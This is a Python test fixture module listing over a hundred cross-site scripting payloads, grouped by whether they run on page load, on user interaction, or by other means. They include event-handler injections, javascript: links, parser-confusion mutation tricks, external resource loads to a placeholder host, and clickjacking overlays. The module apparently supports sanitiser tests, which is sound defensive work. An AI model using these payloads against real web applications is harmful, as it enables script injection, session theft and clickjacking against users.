"""Markup that runs, loads, submits or hides in what it is not, as anybody could write it into a text column.

In each, ``RUN`` stands for script that tells which payload it was, ``MARK`` for an address nobody may be asked for.
Shared by the tests of the rewriting and by those in a real browser.
"""

from __future__ import annotations

RUNS_AT_ONCE = {
    "image": "<img src=x onerror=RUN>",
    "image in quotes": '<img src="x" onerror="RUN">',
    "image in capitals": "<IMG SRC=x OnErRoR=RUN>",
    "image with slashes": '<img/src="x"/onerror=RUN>',
    "image by its other name": "<image src=x onerror=RUN>",
    "image in feeds": "<img\fsrc=x\fonerror\f=\fRUN>",
    "image without a space": '<img src="x"onerror="RUN">',
    "image after a bogus tag": "</ ><img src=x onerror=RUN>",
    "image in references": '<img src=x onerror="&#82;&#85;&#78;">',
    "image behind a lone bracket": "1 < 2 <<img src=x onerror=RUN>",
    "image in a cell's words": "killed by panda & <user request> <img src=x onerror=RUN> lost",
    "image after a comment": "<!--><img src=x onerror=RUN>-->",
    "image after a short comment": "<!---><img src=x onerror=RUN>-->",
    "image after a comment with a bang": "<!--a--!><img src=x onerror=RUN>-->",
    "image after an instruction": "<?xml version='1.0'?><img src=x onerror=RUN>",
    "image after a doctype": "<!DOCTYPE html><img src=x onerror=RUN>",
    "image after CDATA": "<![CDATA[><img src=x onerror=RUN>]]>",
    "image with a source set": "<img srcset=',,x 1x' onerror=RUN>",
    "image with backquotes": "<img src=`x` onerror=RUN>",
    "image with a null in between": "<img src=x \0onerror=a onerror=RUN>",
    "image in a title that closes": "<span title='\"><img src=x onerror=RUN>'>a</span><img src=x onerror=RUN>",
    "svg in svg": "<svg><svg onload=RUN></svg></svg>",
    "svg animation": "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "svg setting": "<svg><set onbegin=RUN attributeName=x to=1>",
    "video": "<video src=x onerror=RUN></video>",
    "video with a source": "<video><source src=x onerror=RUN></video>",
    "audio": "<audio src=x onerror=RUN></audio>",
    "details": "<details open ontoggle=RUN>a</details>",
    "focused input": "<input autofocus onfocus=RUN>",
    "frame with script": '<iframe src="javascript:parent.RUN"></iframe>',
    "frame with a document": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "frame that loads": "<iframe onload=RUN></iframe>",
    "object with script": "<object data=x onerror=RUN></object>",
    "style that loads": "<style onload=RUN>a{}</style>",
    "sheet that fails": "<link rel=stylesheet href=x onerror=RUN>",
    "animated": "<style>@keyframes k{}</style><p style='animation-name:k' onanimationstart=RUN>a</p>",
    "noscript and paragraph": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "svg, style and link": '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
    "math, table and style": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=RUN&gt;'><img src=x onerror=RUN>",
    "textarea that closes": "<textarea><!--</textarea><img src=x onerror=RUN>-->",
    "title that closes": "<title><a href='</title><img src=x onerror=RUN>'></title>",
    "raw text that closes": "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "frame text that closes": "<noembed><i title='</noembed><img src=x onerror=RUN>'></noembed>",
    "table that throws out": "<table><td><img src=x onerror=RUN></table>",
    "cell that ends the table": "</td></tr></table><img src=x onerror=RUN>",
    "custom element": "<x-cell onpointerenter=RUN></x-cell><img src=x onerror=RUN>",
    "unknown element": "<condor_rm><img src=x onerror=RUN></condor_rm>",
    "body": "<body onload=RUN><img src=x onerror=RUN>",
    "foreign object": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "template next to an image": "<template><img src=y></template><img src=x onerror=RUN>",
    "double encoded, then plain": "&lt;img src=x onerror=RUN&gt;<img src=x onerror=RUN>",
}
"""Run in Chromium as soon as a page puts them into itself, if nobody makes them harmless."""

RUNS_WHEN_TOUCHED = {
    "link": '<a href="javascript:RUN">a</a>',
    "link in capitals": '<a href="JaVaScRiPt:RUN">a</a>',
    "link with a tab": '<a href="java&#x09;script:RUN">a</a>',
    "link with a newline": '<a href="java\nscript:RUN">a</a>',
    "link with named references": '<a href="&Tab;javascript&colon;RUN">a</a>',
    "link with a control before it": '<a href="\x01javascript:RUN">a</a>',
    "link with spaces before it": '<a href="  javascript:RUN">a</a>',
    "link without quotes": "<a href=javascript:RUN>a</a>",
    "link with decimal references": '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:RUN">a</a>',
    "link in svg": '<svg><a xlink:href="javascript:RUN"><text y=20>a</text></a></svg>',
    "link whose address is set": "<svg><a><animate attributeName=href values=javascript:RUN /><text>a</text></a></svg>",
    "area": '<map name=m><area href="javascript:RUN" shape=default></map>',
    "clicked text": "<b onclick=RUN>a</b>",
    "clicked link": '<a href="#" onclick="RUN">a</a>',
    "hovered text": "<span onmouseover=RUN>a</span>",
    "pointer": "<i onpointerover=RUN>a</i>",
    "unknown element": "<user onclick=RUN>request</user>",
    "made-up name": "<robot<svc onclick=RUN>a</robot>",
    "focused text": "<em tabindex=0 onfocus=RUN>a</em>",
    "form": "<form action=javascript:RUN><button>a</button></form>",
    "button's own form": "<form><button formaction=javascript:RUN>a</button></form>",
    "picture button": "<form action=javascript:RUN><input type=image src=x></form>",
    "summary": "<details><summary onclick=RUN>a</summary>b</details>",
    "label": "<label onclick=RUN>a</label>",
    "toggled popover": "<button popovertarget=p onclick=RUN>a</button><div popover id=p>b</div>",
}
"""Run in Chromium when a reader clicks, points at, or reaches them by keyboard."""

RUNS_OTHERWISE = {
    "svg": "<svg onload=RUN>",
    "svg in quotes": '<svg onload="RUN"></svg>',
    "svg with a slash": "<svg/onload=RUN>",
    "form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "select that drops": "<select><template></select><img src=x onerror=RUN>",
    "marquee": "<marquee onstart=RUN>a</marquee>",
    "script": "<script>RUN</script>",
    "script in capitals": "<SCRIPT>RUN</SCRIPT>",
    "script from elsewhere": "<script src=MARK></script>",
    "script in script": "<script><script>RUN</script></script>",
    "script with slashes": "<script/x>RUN</script/x>",
    "script that does not end": "<script>RUN",
    "script of svg": "<svg><script>RUN</script></svg>",
    "script of svg by reference": "<svg><script href=MARK /></svg>",
    "template with script": "<template><script>RUN</script></template>",
    "shadow root": "<div><template shadowrootmode=open><script>RUN</script></template></div>",
    "use of a document": "<svg><use href=\"data:image/svg+xml,<svg id='x'><image onerror='RUN'/></svg>#x\"/></svg>",
    "link to a document": '<a href="data:text/html,<script>RUN</script>">a</a>',
    "link to basic": '<a href="vbscript:RUN">a</a>',
    "link in math": '<math href="javascript:RUN">a</math>',
    "embedded": "<embed src=javascript:RUN>",
    "object's document": "<object data='data:text/html,<script>RUN</script>'></object>",
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "base": "<base href=MARK>",
    "picture from elsewhere": "<img src=MARK>",
    "picture in place": '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN />">',
    "style from elsewhere": "<style>@import 'MARK';</style>",
    "picture in a style": '<b style="background:url(MARK)">a</b>',
    "picture in an escaped style": '<b style="background:u\\72l(MARK)">a</b>',
    "picture of a table": "<table background=MARK><tr><td>a</table>",
    "sheet from elsewhere": "<link rel=stylesheet href=MARK>",
    "fetched early": "<link rel=prefetch href=MARK>",
    "sound": "<audio src=MARK autoplay></audio>",
    "poster": "<video poster=MARK></video>",
    "form to elsewhere": "<form action=MARK id=f><input name=a></form><button form=f>a</button>",
    "asked on a click": '<a href="#" ping=MARK>a</a>',
    "unfinished image": "<img src=x onerror=RUN //",
    "unfinished attribute": '<b title="',
    "unfinished link": '<a href="',
    "unfinished comment": "<!-- a",
    "plain text for ever": "<plaintext>",
    "fixed cover": '<a href="https://MARK" style="position:fixed;inset:0;z-index:9">a</a>',
    "negative margin": '<a href="https://MARK" style="margin:-9999px;padding:9999px">a</a>',
    "name that scripts look for": '<span id="main-table">a</span><i id=currentFilters>b</i>',
    "field of the form around": "<input type=hidden name=status value=done>",
    "second life in a tip": '<b data-bs-html="true" title="&lt;img src=x onerror=RUN&gt;">a</b>',
    "second life in data": '<b data-template="&lt;img src=x onerror=RUN&gt;">a</b>',
    "where scripts fetch markup": '<b data-body-url="//MARK/x">a</b>',
}
"""Need another browser or more than a page with a table, or do other harm: still gone."""

HOSTILE = {
    f"{name} ({when})": payload
    for when, payloads in (("at once", RUNS_AT_ONCE), ("touched", RUNS_WHEN_TOUCHED), ("otherwise", RUNS_OTHERWISE))
    for name, payload in payloads.items()
}
"""All of them, by name."""


def armed(payload: str, run: str, mark: str = "//marker.example/x") -> str:
    """`payload` with its script and address; `run` must hold neither quotes, blanks, brackets ("<", ">") nor "="."""
    references = "".join(f"&#{ord(letter)};" for letter in run)
    return payload.replace("&#82;&#85;&#78;", references).replace("RUN", run).replace("MARK", mark)
